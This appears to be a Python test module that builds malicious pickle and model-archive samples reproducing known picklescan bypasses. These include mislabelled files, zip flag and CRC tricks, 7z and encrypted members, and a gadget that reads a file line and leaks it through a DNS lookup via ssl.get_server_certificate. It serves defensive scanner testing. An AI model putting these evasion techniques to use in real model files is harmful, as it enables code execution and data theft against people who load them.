"""picklescan: files that it did not open, or opened with another reader than the loader's."""

from __future__ import annotations

from functools import partial

from tests.builders import numpys, sevenzips, torch_legacy, torches, zip_tricks, zips
from tests.builders.noise import noise
from tests.builders.pickles.described import Global, Reduce
from tests.builders.pickles.gadgets import posix_system
from tests.builders.pickles.honest import plain_data
from tests.builders.pickles.programs import Target, pickled_call
from tests.builders.pickles.writer import dumps
from tests.museum.exhibit import Build, Exhibit, Form, Verdict, Word

_SOURCE = "picklescan, advisory or issue on files and archives"


def _zipped(pickle: bytes) -> bytes:
    return zips.plain({zip_tricks.NAME: pickle})


_PLAIN, _HONEST = partial(_zipped, posix_system()), partial(_zipped, plain_data())


def _archive(id_: str, title: str, build: Build, twin: Build = _HONEST, **more: tuple[str, ...]) -> Exhibit:
    """Twin and plain form are the same archive without the trick."""
    return Exhibit(
        id=id_,
        title=title,
        source=_SOURCE,
        build=build,
        twin=twin,
        plain=_PLAIN,
        name="model.zip",
        plain_name="model.zip",
        also=more.get("also", ()),
    )


def _checkpoint(name: str, pickle: bytes) -> bytes:
    return torches.zip_checkpoint(extra={name: pickle})


def _unreadable(title: str, build: Build) -> Exhibit:
    """Nothing can be known of the member; picklescan only warned, and such a file must never pass for clean."""
    return Exhibit(
        id="picklescan#39",
        title=title,
        source=_SOURCE,
        build=build,
        twin=_HONEST,
        plain=_PLAIN,
        name="model.zip",
        plain_name="model.zip",
        expects=Verdict.INCONCLUSIVE,
        word=Word.UNKNOWN,
    )


def _aes() -> bytes:
    sealed = zips.Entry(name=zip_tricks.NAME, data=noise(256), method=zips.AES, flags=zips.ENCRYPTED)
    return zips.archive(sealed)


def exfiltrating_array() -> bytes:
    """A line of a file becomes a host name that is looked up, inside an object array."""
    line = Reduce(Global("linecache", "getline"), ("inert-absent-file", 1))
    return numpys.object_npy(dumps(Reduce(Global("ssl", "get_server_certificate"), ((line, 443),)), 3))


EXHIBITS = (
    *(
        Exhibit(
            id="CVE-2025-1889",
            title=f"second_pickle_{name}",
            source=_SOURCE,
            build=partial(_checkpoint, name, posix_system()),
            twin=partial(_checkpoint, name, plain_data()),
            plain=partial(_checkpoint, "data.pkl", posix_system(2)),
            name="model.pt",
            plain_name="model.pt",
        )
        for name in ("config.p", "extra/notes.dat", "weights")
    ),
    *(
        Exhibit(
            id="CVE-2025-1889",
            title=f"named{ending or '_without_ending'}",
            source=_SOURCE,
            build=posix_system,
            twin=plain_data,
            name=f"model{ending}",
        )
        for ending in ("", ".dat", ".weights", ".PKL", ".cloudpickle", ".p")
    ),
    *(
        Exhibit(
            id="CVE-2025-10155",
            title=f"pickle_as{ending}_{protocol}",
            source=_SOURCE,
            build=partial(posix_system, protocol),
            twin=partial(plain_data, protocol),
            name=f"model{ending}",
        )
        for ending in (".bin", ".pt", ".pth", ".ckpt")
        for protocol in (0, 4)
    ),
    _archive("CVE-2025-1944", "two_names", partial(zip_tricks.two_names, posix_system())),
    _archive("CVE-2025-1944", "one_letter", partial(zip_tricks.two_names, posix_system(), "archive/datap.kl")),
    *(
        _archive(
            "CVE-2025-1945",
            f"flag_{flags:#x}_{where}",
            partial(zip_tricks.flag_bits, posix_system(), flags, where=where),
        )
        for flags in (0x1, 0x20, 0x40, 0x41)
        for where in ("both", "local", "central")
    ),
    *(
        _archive("CVE-2025-10156", f"crc_{where}", partial(zip_tricks.wrong_crc, posix_system(), where=where))
        for where in ("both", "local", "central")
    ),
    _archive(
        "picklescan#35",
        "7z",
        partial(sevenzips.plain, {"data.pkl": posix_system()}),
        partial(sevenzips.plain, {"data.pkl": plain_data()}),
        also=("nullifAI 2025",),
    ),
    _archive(
        "picklescan#35",
        "7z_with_bin",
        partial(sevenzips.archive, {"pytorch_model.bin": posix_system()}, method=sevenzips.LZMA, packed_header=True),
        partial(sevenzips.archive, {"pytorch_model.bin": plain_data()}, method=sevenzips.LZMA, packed_header=True),
    ),
    _unreadable("aes", _aes),
    _unreadable("encrypted", lambda: zips.archive(zips.encrypted_entry(zip_tricks.NAME, posix_system()))),
    _unreadable("deflate64", partial(zip_tricks.exotic, posix_system(), zips.DEFLATE64)),
    *(
        _archive(
            "picklescan#39",
            f"method_{method}",
            partial(zip_tricks.exotic, posix_system(), method),
            partial(zip_tricks.exotic, plain_data(), method),
        )
        for method in (zips.XZ, zips.ZSTD)
    ),
    Exhibit(
        id="picklescan dns_exfiltration",
        title="object_npy",
        source=_SOURCE,
        build=exfiltrating_array,
        twin=numpys.object_npy,
        plain=partial(pickled_call, Target("ssl", "get_server_certificate", (("inert.invalid", 443),)), protocol=0),
        name="array.npy",
    ),
    Exhibit(
        id="picklescan tar",
        title="old_torch_tar",
        source=_SOURCE,
        build=partial(torch_legacy.tarred, poisoned=posix_system(2)[2:-1]),
        twin=torch_legacy.tarred,
        plain=partial(torch_legacy.legacy, poisoned=posix_system(2)[2:-1]),
        name="model.tar",
        plain_name="model.pth",
    ),
)


def test_exhibit(exhibit: Exhibit, form: Form) -> None:
    exhibit.hangs_true(form)
